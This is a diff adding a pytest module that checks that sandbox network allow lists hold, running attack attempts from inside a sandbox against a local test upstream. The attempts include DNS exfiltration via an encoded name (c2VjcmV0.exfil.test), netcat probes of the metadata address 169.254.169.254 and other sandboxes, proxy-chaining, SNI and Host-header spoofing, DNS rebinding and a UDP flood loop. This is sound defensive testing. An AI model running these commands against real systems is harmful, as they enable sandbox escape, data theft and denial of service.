@@ -1,0 +1,257 @@
+"""Aether (issue 16, part A): per-sandbox networks whose allow lists hold. Every upstream is a server this
+module starts in a network namespace of its own (tests/upstreams.py), on a range the session edge's
+operator allows; every attack runs from inside a sandbox, and each check reads what the upstream saw
+(its logs), not only what the sandbox was told."""
+from __future__ import annotations
+
+import ssl
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+import libdsec
+from bus.errors import InvalidRequest, Unsupported
+from tests.conftest import UPSTREAM
+
+NS = "aetherup"
+LINK = "aetherup0"
+
+
+def _run(*argv: str) -> None:
+    subprocess.run(argv, check=True, capture_output=True)
+
+
+@pytest.fixture(scope="module")
+def upstream(tmp_path_factory):
+    """The upstream namespace (198.51.100.2, the host end .1) and its servers; their logs' directory."""
+    d = tmp_path_factory.mktemp("upstream")
+    (d / "logs").mkdir()
+    conf = d / "san.cnf"
+    conf.write_text("[req]\ndistinguished_name=dn\n[dn]\n[ext]\nsubjectAltName=DNS:*.test,DNS:allowed.test,"
+                    "DNS:other.test,DNS:denied.test\n")
+    _run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=dsec test CA",
+         "-keyout", str(d / "ca.key"), "-out", str(d / "ca.pem"))
+    _run("openssl", "req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=allowed.test", "-keyout",
+         str(d / "leaf.key"), "-out", str(d / "leaf.csr"))
+    _run("openssl", "x509", "-req", "-in", str(d / "leaf.csr"), "-CA", str(d / "ca.pem"), "-CAkey",
+         str(d / "ca.key"), "-CAcreateserial", "-days", "2", "-extfile", str(conf), "-extensions", "ext",
+         "-out", str(d / "leaf.pem"))
+    subprocess.run(["ip", "netns", "del", NS], capture_output=True)
+    _run("ip", "netns", "add", NS)
+    proc = None
+    try:
+        _run("ip", "link", "add", LINK, "type", "veth", "peer", "name", "eth0", "netns", NS)
+        _run("ip", "addr", "add", "198.51.100.1/24", "dev", LINK)
+        _run("ip", "link", "set", LINK, "up")
+        for cmd in (["ip", "addr", "add", f"{UPSTREAM}/24", "dev", "eth0"], ["ip", "link", "set", "eth0", "up"],
+                    ["ip", "link", "set", "lo", "up"]):
+            _run("ip", "netns", "exec", NS, *cmd)
+        proc = subprocess.Popen(["ip", "netns", "exec", NS, sys.executable, "-m", "tests.upstreams", str(d / "logs"),
+                                 str(d / "leaf.pem"), str(d / "leaf.key")], stdout=subprocess.PIPE,
+                                cwd=Path(__file__).parent.parent)
+        assert proc.stdout.readline().strip() == b"ready"
+        yield d / "logs"
+    finally:
+        if proc is not None:
+            proc.kill()
+            proc.wait()
+        subprocess.run(["ip", "netns", "del", NS], capture_output=True)
+
+
+def seen(logs: Path, name: str) -> str:
+    """What an upstream logged so far."""
+    path = logs / name
+    return path.read_text() if path.exists() else ""
+
+
+async def sh(sb, command: str) -> tuple[int, str]:
+    r = await sb.exec(command, timeout=30)
+    return r.exit_code, (r.stdout + r.stderr).decode(errors="replace")
+
+
+async def tunnel(sb, host: str, first: bytes, port: int = 443) -> tuple[bool, bool]:
+    """CONNECT host:port through the sandbox's proxy, then send `first`: (the proxy said 200, a TLS record
+    came back)."""
+    await sb.write_file("/tmp/first", first)
+    code, out = await sh(sb, f"(printf 'CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'; "
+                             f"sleep 0.3; cat /tmp/first; sleep 1) | nc ${{HTTP_PROXY#http://}} > /tmp/got; "
+                             "head -c 40 /tmp/got; echo; tail -c +40 /tmp/got | head -c 2 | od -An -tx1")
+    return "200 Connection established" in out, out.split("\n")[-2].split()[:2] == ["16", "03"]
+
+
+async def tls_direct(sb, host: str, hello: bytes, port: int = 443) -> bool:
+    """Send a ClientHello straight to host:port (the rules redirect it): whether a TLS record came back."""
+    await sb.write_file("/tmp/hello", hello)
+    _, out = await sh(sb, f"(cat /tmp/hello; sleep 1) | nc {host} {port} | head -c 2 | od -An -tx1")
+    return out.split() == ["16", "03"]
+
+
+def client_hello(server_name: str) -> bytes:
+    """A real TLS ClientHello naming server_name (its first flight, made with Python's ssl)."""
+    ctx = ssl.create_default_context()
+    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=server_name)
+    try:
+        obj.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return outgoing.read()
+
+
+async def test_an_allowed_name_is_reached_and_every_decision_is_on_the_trajectory(client, upstream):
+    async with await client.create("busybox", network=libdsec.Network(allow=["allowed.test"])) as sb:
+        assert (await client.get(sb.id)).network.allow == ["allowed.test"]
+        # through HTTP_PROXY (absolute-form), and transparently (no proxy variables: the rules redirect)
+        code, out = await sh(sb, "wget -q -O- http://allowed.test/one")
+        assert (code, out) == (0, "host=allowed.test path=/one\n")
+        code, out = await sh(sb, "unset http_proxy HTTP_PROXY; wget -q -O- http://allowed.test/two")
+        assert (code, out) == (0, "host=allowed.test path=/two\n")
+        # TLS, transparently and through CONNECT: the upstream's ServerHello comes back
+        assert await tls_direct(sb, "allowed.test", client_hello("allowed.test"))
+        assert await tunnel(sb, "allowed.test", client_hello("allowed.test")) == (True, True)
+        code, out = await sh(sb, "wget -q -O- http://denied.test/five")
+        assert code != 0 and "403" in out
+        assert "denied.test" not in seen(upstream, "http.log")
+        records = []
+        for _ in range(60):   # the proxy reports once a second
+            records = [t.record async for t in client.trajectories(sandbox=sb.id, follow=False)
+                       if t.record.type == "network"]
+            decisions = [d for r in records for d in r.decisions]
+            if sum(d["verdict"] == "allowed" for d in decisions) >= 4 and any(d["verdict"] == "denied"
+                                                                              for d in decisions):
+                break
+            await _sleep(0.25)
+        decisions = [d for r in records for d in r.decisions]
+        allowed = [d for d in decisions if d["verdict"] == "allowed"]
+        assert {d["name"] for d in allowed} == {"allowed.test"} and len(allowed) == 4, decisions
+        assert all(d["address"] == UPSTREAM and d["bytes_in"] > 0 and d["bytes_out"] > 0 for d in allowed)
+        denied = [d for d in decisions if d["verdict"] == "denied"]
+        assert denied and denied[0]["name"] == "denied.test" and "not in the allow list" in denied[0]["reason"]
+
+
+async def _sleep(seconds: float) -> None:
+    import asyncio
+    await asyncio.sleep(seconds)
+
+
+async def decisions_of(client, sandbox_id: str, want) -> list[dict]:
+    """The sandbox's network decisions on its trajectory, once want(decisions) holds (or after 15 s)."""
+    decisions: list[dict] = []
+    for _ in range(60):
+        decisions = [d async for t in client.trajectories(sandbox=sandbox_id, follow=False)
+                     if t.record.type == "network" for d in t.record.decisions]
+        if want(decisions):
+            break
+        await _sleep(0.25)
+    return decisions
+
+
+async def test_attacks_on_names_are_refused(client, upstream):
+    policy = libdsec.Network(allow=["allowed.test", "rebind.test", "proxy.test:3128"])
+    async with await client.create("busybox", network=policy) as sb:
+        # a denied domain, through the proxy and straight
+        for prefix in ("", "unset http_proxy HTTP_PROXY; "):
+            code, out = await sh(sb, prefix + "wget -q -O- http://denied.test/a")
+            assert code != 0, out
+        # an allowed name with a denied Host header, through the proxy and straight
+        for prefix in ("", "unset http_proxy HTTP_PROXY; "):
+            code, out = await sh(sb, prefix + "wget -q -O- --header 'Host: denied.test' http://allowed.test/b")
+            assert code != 0, out
+        # a second request of a kept-alive connection to another host
+        await sh(sb, "(printf 'GET /c1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'; sleep 0.3; "
+                     "printf 'GET /c2 HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'; sleep 0.5) | nc allowed.test 80")
+        # TLS naming another server than the one allowed: through CONNECT, and straight
+        assert await tunnel(sb, "allowed.test", client_hello("denied.test")) == (True, False)
+        assert not await tls_direct(sb, "allowed.test", client_hello("denied.test"))
+        # DNS: a denied name and a would-be exfiltration name get NXDOMAIN and never leave the node
+        for name in ("denied.test", "c2VjcmV0.exfil.test"):
+            code, out = await sh(sb, f"nslookup {name}")
+            assert "NXDOMAIN" in out, out
+        # DNS rebinding: an allowed name that resolves to a private address
+        code, out = await sh(sb, "wget -q -O- http://rebind.test/d")
+        assert code != 0 and "403" in out, out
+        code, out = await sh(sb, "nslookup rebind.test")
+        assert "10.77.0.1" not in out.split("Name:")[-1], out
+        # a CONNECT chained through an allowed proxy
+        await sh(sb, "(printf 'CONNECT denied.test:80 HTTP/1.1\\r\\n\\r\\nGET /e HTTP/1.1\\r\\nHost: denied.test"
+                     "\\r\\n\\r\\n'; sleep 0.5) | nc proxy.test 3128")
+        log = seen(upstream, "http.log")
+        assert "/c1" in log and "denied.test" not in log, log
+        assert seen(upstream, "proxy.log") == ""
+        dns = seen(upstream, "dns.log").split()
+        assert "denied.test" not in dns and "c2VjcmV0.exfil.test" not in dns and "rebind.test" in dns
+        decisions = await decisions_of(client, sb.id, lambda ds: sum(d["verdict"] == "denied" for d in ds) >= 10)
+        reasons = [d["reason"] for d in decisions if d["verdict"] == "denied"]
+        assert any("10.77.0.1" in r for r in reasons) and any("CONNECT through another proxy" in r for r in reasons)
+        assert any("is not the CONNECT host" in r for r in reasons), reasons
+
+
+async def test_attacks_on_addresses_are_refused(client, upstream, stack):
+    nats_port = stack.url.rsplit(":", 1)[1]
+    # A tenant listing the host, its own range or metadata gains nothing: the node's guard refuses them
+    greedy = libdsec.Network(allow=["allowed.test", "10.0.0.0/8:1-65535", "198.51.100.1:1-65535", "169.254.0.0/16"])
+    async with await client.create("busybox", network=greedy) as sb, \
+            await client.create("busybox", network=libdsec.Network(allow=["allowed.test"])) as other:
+        _, other_ip = await sh(other, "ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1")
+        _, gateway = await sh(sb, "ip route | awk '/default/ {print $3}'")
+        gateway, other_ip = gateway.strip(), other_ip.strip()
+        # the sandbox cannot touch its network: no CAP_NET_ADMIN over its namespace
+        for cmd in ("ip route replace default via 198.51.100.1", "ip addr add 10.1.2.3/32 dev eth0",
+                    "ip link set eth0 down", "ip -6 addr add 2001:db8::5/64 dev eth0"):
+            code, out = await sh(sb, cmd)
+            assert code != 0 and ("not permitted" in out or "denied" in out), (cmd, out)
+        # raw addresses not in the list: upstream, the host's NATS, the gateway, another sandbox, metadata
+        for target in (f"{UPSTREAM} 7000", f"{gateway} {nats_port}", f"198.51.100.1 {nats_port}",
+                       f"{other_ip} 80", "169.254.169.254 80", "127.0.0.1 1"):
+            code, out = await sh(sb, f"echo ping | nc -w 2 {target}; echo rc=$?")
+            assert "ping" not in out, (target, out)
+        # IPv6: there is none
+        code, out = await sh(sb, "ip -6 addr; nc -w 2 2001:db8::1 80; echo rc=$?")
+        assert "inet6" not in out and "rc=1" in out, out
+        # a UDP flood, and DNS to another server, after changing /etc/resolv.conf
+        await sh(sb, "i=0; while [ $i -lt 300 ]; do echo x | nc -u -w0 198.51.100.2 9999; i=$((i+1)); done")
+        code, out = await sh(sb, f"echo nameserver {UPSTREAM} > /etc/resolv.conf; nslookup denied.test; "
+                                 f"nslookup denied.test {UPSTREAM}")
+        assert out.count("NXDOMAIN") >= 2 and "Permission" not in out and "find denied.test" in out, out
+        r = await sb.exec("echo still-fast")   # the node answers as before
+        assert r.stdout == b"still-fast\n"
+        assert seen(upstream, "udp.log") == "" and "denied.test" not in seen(upstream, "dns.log").split()
+        decisions = await decisions_of(client, sb.id, lambda ds: sum(d["verdict"] == "denied" for d in ds) >= 6)
+        reasons = " | ".join(d["reason"] for d in decisions if d["verdict"] == "denied")
+        assert "an address of the host" in reasons and "a sandbox's address" in reasons, reasons
+        assert "a private, link-local, shared or reserved address" in reasons and "7000 is not in the allow list" \
+            in reasons
+
+
+async def test_a_live_allowlist_change_holds_for_the_next_connection(client, upstream):
+    async with await client.create("busybox", network=libdsec.Network(allow=["allowed.test"])) as sb:
+        get_other = "wget -q -O- http://other.test/x"
+        assert (await sh(sb, get_other))[0] != 0
+        await sb.set_network(libdsec.Network(allow=["allowed.test", "other.test"]))
+        assert await sh(sb, get_other) == (0, "host=other.test path=/x\n")
+        assert (await client.get(sb.id)).network.allow == ["allowed.test", "other.test"]
+        for bad in (libdsec.Network(allow=["*"]), libdsec.Network(allow=["a..b"]), "sideways"):
+            with pytest.raises(InvalidRequest):
+                await sb.set_network(bad)
+        assert await sh(sb, get_other) == (0, "host=other.test path=/x\n")   # the old one still holds
+        await sb.set_network(libdsec.Network(allow=["allowed.test"]))
+        assert (await sh(sb, get_other))[0] != 0
+        await sb.set_network("mirror-only")
+        assert (await sh(sb, "wget -q -O- http://allowed.test/y"))[0] != 0
+        assert (await client.get(sb.id)).network.mode == "mirror-only"
+    async with await client.create("busybox") as plain:
+        with pytest.raises(Unsupported):
+            await plain.set_network(libdsec.Network(allow=["allowed.test"]))
+
+
+async def test_connections_past_the_limit_are_refused(client, upstream):
+    policy = libdsec.Network(allow=[f"{UPSTREAM}:7000"], max_connections=2)
+    async with await client.create("busybox", network=policy) as sb:
+        code, out = await sh(sb, f"for i in 1 2; do (sleep 3 | nc {UPSTREAM} 7000 >/dev/null) & done; sleep 0.5; "
+                                 f"echo third | nc -w 2 {UPSTREAM} 7000; wait")
+        assert "third" not in out
+        code, out = await sh(sb, f"echo fourth | nc -w 2 {UPSTREAM} 7000")
+        assert "fourth" in out
